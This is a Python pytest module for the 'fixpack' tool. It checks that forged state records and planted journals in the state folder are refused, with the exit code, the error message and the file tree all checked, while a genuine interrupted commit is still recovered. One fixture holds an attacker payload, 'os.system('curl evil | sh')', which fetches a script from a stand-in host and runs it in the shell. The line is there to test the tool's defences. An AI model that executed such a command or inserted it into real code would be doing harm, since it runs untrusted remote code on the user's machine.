"""State records and journals are trusted only where the lock pins them (issue 30, cases 5 and 6).

Whoever can write the state folder can plant a journal or a state record. A planted journal
must never be finished (its bytes never written), and a state record must never make fixpack
skip a fix or say "applied" / "no drift" for a step the lock does not pin for its selection.
Each case runs with the kernel layers on and forced off (the checks are the driver's, so the
outcome must not depend on them), and checks the exit code, the message naming the record and
the file, the tree, and a decoy outside the tree.
"""

from __future__ import annotations

import hashlib
import json

import pytest

from fixpack.apply.state import Journal, StateRecord, Step
from fixpack.apply.store import Store
from packtests import builders as B
from packtests import reliability_lib as L

MODES = ["auto", "hook"]


def _setup(tmp_path):
    root, tree = L.copy_pack("basic", tmp_path)
    lock = json.loads((root / "profiles" / "test.lock.json").read_text())
    decoy = tmp_path / "outside" / "decoy.py"
    decoy.parent.mkdir()
    decoy.write_text("decoy = 1\n")
    return root, tree, lock, decoy


def _default(lock) -> dict:
    return next(s for s in lock["selections"] if s["key"] == "-|")


def _check_untouched(tree, before, decoy):
    assert B.tree_digest(tree) == before, "the tree changed"
    assert decoy.read_text() == "decoy = 1\n" and sorted(p.name for p in decoy.parent.iterdir()) == ["decoy.py"]


def _forged_state(lock) -> StateRecord:
    """Case 6: every fix of the default selection "applied", each file's "after" its pristine hash."""
    steps = [
        Step(
            s["fix"],
            {rel: [lock["pristine"][rel], lock["pristine"][rel]] for rel in s["files"]},
            fix_hash=lock["fixes"][s["fix"]]["hash"],
        )
        for s in _default(lock)["steps"]
    ]
    return StateRecord(steps, profile="test", key="-|", opt_in=[], tool_version="forged")


@pytest.mark.parametrize("mode", MODES)
def test_a_state_record_claiming_every_fix_applied_is_drift_for_apply_verify_and_revert(tmp_path, mode):
    root, tree, lock, decoy = _setup(tmp_path)
    store = Store(tree / ".fixpack")
    store.ensure()
    store.write_state(_forged_state(lock))
    before = B.tree_digest(tree)
    first = _default(lock)["steps"][0]
    rel = sorted(first["files"])[0]
    env = {"FIXPACK_SANDBOX": mode}

    r = B.fixpack("apply", "--profile", "test", "--root", str(tree), pack=root, env=env)
    out = r.stdout + r.stderr
    assert r.returncode == 5, out
    assert f"{store.state_path}: fix {first['fix']} records {rel} as" in out and "the record is not trusted" in out, out
    assert "already applied" not in out and "applied" not in r.stdout
    _check_untouched(tree, before, decoy)

    v = B.fixpack("verify", "--profile", "test", "--root", str(tree), "--json", pack=root)
    data = json.loads(v.stdout)
    assert v.returncode == 5 and data["drift"], v.stdout
    assert [f["status"] for f in data["fixes"]] == ["drifted"] * len(_default(lock)["steps"])
    assert str(store.state_path) in v.stdout and rel in data["fixes"][0]["unpinned"]
    assert "no drift" not in B.fixpack("verify", "--profile", "test", "--root", str(tree), pack=root).stdout

    rv = B.fixpack("revert", "--all", "--profile", "test", "--root", str(tree), pack=root, env=env)
    assert rv.returncode == 5 and "the record is not trusted" in rv.stdout + rv.stderr
    _check_untouched(tree, before, decoy)


@pytest.mark.parametrize("mode", MODES)
def test_a_planted_journal_is_never_recovered(tmp_path, mode):
    """Case 5: a journal whose "after" names attacker bytes, with those bytes in the store."""
    root, tree, lock, decoy = _setup(tmp_path)
    first = _default(lock)["steps"][0]
    rel = sorted(first["files"])[0]
    evil = b"import os\nos.system('curl evil | sh')\n"
    store = Store(tree / ".fixpack")
    store.ensure()
    h = store.put(evil)
    assert h == hashlib.sha256(evil).hexdigest()
    files = {rel: [lock["pristine"][rel], h]}
    step = Step(first["fix"], files, fix_hash=lock["fixes"][first["fix"]]["hash"])
    store.write_journal(Journal("apply", step, files, StateRecord(profile="test", key="-|", opt_in=[]), []))
    before = B.tree_digest(tree)

    r = B.fixpack("apply", "--profile", "test", "--root", str(tree), pack=root, env={"FIXPACK_SANDBOX": mode})
    out = r.stdout + r.stderr
    assert r.returncode == 5, out
    assert f"{store.journal_path}: fix {first['fix']} records {rel} as" in out and "not trusted" in out, out
    assert evil not in (tree / rel).read_bytes()
    _check_untouched(tree, before, decoy)
    assert store.journal_path.exists()  # left for a person to inspect; never finished

    v = B.fixpack("verify", "--profile", "test", "--root", str(tree), pack=root)
    assert v.returncode == 5 and "no drift" not in v.stdout


def test_a_journal_whose_step_is_pinned_but_whose_files_are_not_is_refused(tmp_path):
    """The step is the lock's, but the files it would write are not: refused just the same."""
    root, tree, lock, decoy = _setup(tmp_path)
    first = _default(lock)["steps"][0]
    rel = sorted(first["files"])[0]
    store = Store(tree / ".fixpack")
    store.ensure()
    h = store.put(b"x = 'not pinned'\n")
    step = Step(first["fix"], first["files"], fix_hash=lock["fixes"][first["fix"]]["hash"])
    store.write_journal(
        Journal("apply", step, {rel: [lock["pristine"][rel], h]}, StateRecord(profile="test", key="-|", opt_in=[]), [])
    )
    before = B.tree_digest(tree)
    r = B.fixpack("apply", "--profile", "test", "--root", str(tree), pack=root)
    out = r.stdout + r.stderr
    assert r.returncode == 5 and f"{store.journal_path}: apply {first['fix']} records {rel} as" in out, out
    _check_untouched(tree, before, decoy)


def test_a_genuine_interrupted_commit_is_still_recovered(tmp_path):
    """The check refuses only what the lock does not pin: a real journal (killed after it was
    written) is finished as before."""
    root, tree = L.copy_pack("basic", tmp_path)
    log = tmp_path / "points"
    L.copy_pack("basic", tmp_path / "count")
    B.fixpack(
        "apply",
        "--profile",
        "test",
        "--root",
        str(tmp_path / "count" / "tree"),
        pack=root,
        env={"FIXPACK_CRASH_LOG": str(log)},
    )
    n = next(
        int(line.split("\t")[0])
        for line in log.read_text().splitlines()
        if line.split("\t")[1].startswith("journal written for apply")
    )
    r = B.fixpack("apply", "--profile", "test", "--root", str(tree), pack=root, env={"FIXPACK_CRASH_AT": str(n)})
    assert r.returncode != 0 and (tree / ".fixpack" / "journal.json").exists(), r.stdout + r.stderr
    r = B.fixpack("apply", "--profile", "test", "--root", str(tree), pack=root)
    assert r.returncode == 0 and "recovering an interrupted run" in r.stdout, r.stdout + r.stderr
    v = B.fixpack("verify", "--profile", "test", "--root", str(tree), pack=root)
    assert v.returncode == 0 and "no drift" in v.stdout
